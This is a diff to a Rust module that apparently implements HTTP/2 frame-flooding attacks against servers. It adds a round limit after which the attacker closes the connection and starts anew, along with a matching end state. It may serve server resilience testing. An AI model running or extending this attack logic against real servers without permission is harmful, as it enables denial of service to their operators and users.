@@ -34,6 +34,8 @@ pub struct Attack {
     pub round: fn(u32) -> Vec<Frame>,
     /// Rounds that go out in one piece.
     pub rounds_at_once: u32,
+    /// The attacker ends the connection by itself after so many.
+    pub rounds_max: Option<u32>,
     /// What the server sends is read.
     pub reads: bool,
     /// How the server ends it.
@@ -58,6 +60,8 @@ pub enum End {
     GoAway(u32),
     /// Closed or reset without a GOAWAY that was read.
     Closed,
+    /// The attacker has ended it, to begin anew.
+    Left,
     /// Whoever attacked has stopped.
     Stopped,
 }
@@ -89,7 +93,8 @@ impl Attack {
         let mut bytes = [PREFACE, &settings(self.settings).encode(), &settings_ack().encode()].concat();
         bytes.extend(encode(&(self.opening)()));
         let mut rounds = 0;
-        while self.rounds_at_once > 1 && bytes.len() < PREPARED_BYTES {
+        let rounds_max = self.rounds_max.unwrap_or(u32::MAX);
+        while self.rounds_at_once > 1 && bytes.len() < PREPARED_BYTES && rounds < rounds_max {
             let round = (self.round)(rounds);
             if round.is_empty() {
                 break;
@@ -118,6 +123,8 @@ impl Prepared {
                     let end = self.bytes.len().min(prepared + PIECE_BYTES);
                     piece.extend_from_slice(&self.bytes[prepared..end]);
                     prepared = end;
+                } else if self.attack.rounds_max.is_some() {
+                    return Ok(End::Left);
                 } else {
                     for _ in 0..self.attack.rounds_at_once {
                         piece.extend(encode(&(self.attack.round)(round)));
